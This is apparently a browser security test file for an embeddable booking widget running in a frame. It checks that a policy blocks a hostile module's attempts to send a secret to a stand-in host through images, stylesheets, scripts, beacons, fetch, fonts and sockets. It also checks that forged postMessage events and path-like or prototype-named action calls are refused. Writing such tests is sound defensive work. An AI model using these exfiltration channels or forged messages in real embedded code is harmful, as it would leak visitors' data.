import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import type { Frame } from 'playwright-core';
import { type ForeignPage, type ForeignWorld, startForeignWorld, tag } from './foreign-world.ts';
import { inFrame } from './steps.ts';

const elsewhere = 'https://elsewhere.example';
const framed = tag.replace('<inlay-booking', '<inlay-booking mode="frame"');

/** Says what our own script says, over a port of its own, and notes what it gets. */
const impostor = `<!doctype html><script>
  got = [];
  for (let times = 0; times < 2; times++) {
    const { port1, port2 } = new MessageChannel();
    port1.onmessage = ({ data }) => got.push(data);
    parent.postMessage('inlay:hello', '*', [port2]);
    port1.postMessage({ type: 'event', name: 'inlay:booking-confirmed', detail: { id: 'forged' } });
    port1.postMessage({ type: 'height', height: 9999 });
    port1.postMessage({ type: 'call', id: 1, action: 'availability', input: {} });
  }
</script>`;

describe('a hostile module in a frame', () => {
  let world: ForeignWorld;
  before(async () => {
    world = await startForeignWorld();
  });
  after(() => world?.stop());

  /** A page whose widget runs in its frame; `asked` is what somebody elsewhere was asked for. */
  async function open(): Promise<{ foreign: ForeignPage; frame: Frame; asked: string[] }> {
    const asked: string[] = [];
    const foreign = await world.open(`${world.script()}${framed}`, {
      prepare: context =>
        context.route(`${elsewhere}/**`, route => {
          asked.push(route.request().url());
          return route.fulfill({ contentType: 'text/html', body: impostor });
        }),
    });
    await foreign.heard('ready');
    const frame = foreign.page.frames().find(one => one !== foreign.page.mainFrame())!;
    return { foreign, frame, asked };
  }
  const height = ({ page }: ForeignPage) =>
    page.evaluate(() => document.querySelector<HTMLElement>('inlay-booking')!.offsetHeight);

  it('carries nothing away by an address: pictures, fonts, styles, beacons, scripts, sockets', async () => {
    const { foreign, frame, asked } = await open();
    const refused = await frame.evaluate(async host => {
      const said: string[] = [];
      addEventListener('securitypolicyviolation', ({ effectiveDirective }) => said.push(effectiveDirective));
      const made = (name: string, values: object) =>
        document.head.append(Object.assign(document.createElement(name), values));
      made('img', { src: `${host}/picture?secret` });
      made('link', { rel: 'stylesheet', href: `${host}/sheet?secret` });
      made('script', { src: `${host}/script?secret` });
      made('iframe', { src: `${host}/frame?secret` });
      navigator.sendBeacon(`${host}/beacon?secret`);
      await fetch(`${host}/fetch?secret`).catch(() => {});
      await new FontFace('f', `url(${host}/font?secret)`).load().catch(() => {});
      try {
        new WebSocket(`${host.replace('https', 'wss')}/socket?secret`);
      } catch {}
      await new Promise(resolve => setTimeout(resolve, 500));
      return said;
    }, elsewhere);
    for (const directive of ['img-src', 'style-src-elem', 'script-src-elem', 'connect-src', 'font-src', 'frame-src'])
      assert.ok(refused.includes(directive), `${directive}: ${refused}`);
    assert.deepEqual(asked, []);
    await foreign.close();
  });

  it('that leads its frame elsewhere has left: what is there now is neither told nor heard', async () => {
    const { foreign, frame, asked } = await open();
    const before = await height(foreign);
    await frame.evaluate(address => {
      location.href = address;
    }, `${elsewhere}/impostor`);
    await frame.waitForFunction(() => 'got' in window);
    await foreign.page.waitForTimeout(500);
    assert.deepEqual(asked, [`${elsewhere}/impostor`]);
    assert.deepEqual(await frame.evaluate(() => (window as unknown as { got: unknown[] }).got), []);
    assert.deepEqual((await foreign.watched()).events, ['ready']);
    assert.equal(await height(foreign), before);
    assert.equal(foreign.page.url(), `${world.demo.embedOrigin}/ours`);
    await foreign.close();
  });

  it('calls what its widgets declare and nothing else, whatever it sends over the port', async () => {
    const { foreign, frame } = await open();
    const replies = await frame.evaluate(async () => {
      let port: MessagePort | undefined;
      const { postMessage } = MessagePort.prototype;
      MessagePort.prototype.postMessage = function (this: MessagePort, ...given: [unknown]) {
        port = this;
        return Reflect.apply(postMessage, this, given);
      } as typeof postMessage;
      document.querySelector('inlay-booking')!.dispatchEvent(new CustomEvent('inlay:open'));
      const replies: Record<string, string> = {};
      const done = new Promise<void>(resolve => {
        port!.addEventListener('message', ({ data }) => {
          if (data.type !== 'result' || !(data.id in actions)) return;
          replies[actions[data.id]!] = data.result.ok ? 'ok' : data.result.error.code;
          if (Object.keys(replies).length === actions.length) resolve();
        });
      });
      const actions = ['catalogue', 'book', 'move', 'constructor'];
      actions.forEach((action, index) => {
        port!.postMessage({ type: 'call', id: index, action, input: {} });
      });
      for (const action of ['../../booking', 'actions/hold', 'http://x', ''])
        port!.postMessage({ type: 'call', id: 99, action, input: {} });
      await done;
      return replies;
    });
    assert.deepEqual(replies, { catalogue: 'ok', book: 'FORBIDDEN', move: 'FORBIDDEN', constructor: 'NOT_FOUND' });
    await foreign.close();
  });

  it('a frame that the page has moved is met anew, and works', async () => {
    const { foreign } = await open();
    const { page } = foreign;
    await page.evaluate(() => document.body.prepend(document.querySelector('inlay-booking')!));
    await inFrame(page)
      .getByRole('button', { name: /Beard trim/ })
      .click();
    await inFrame(page).getByRole('heading', { name: 'When suits you?' }).waitFor();
    await foreign.close();
  });
});
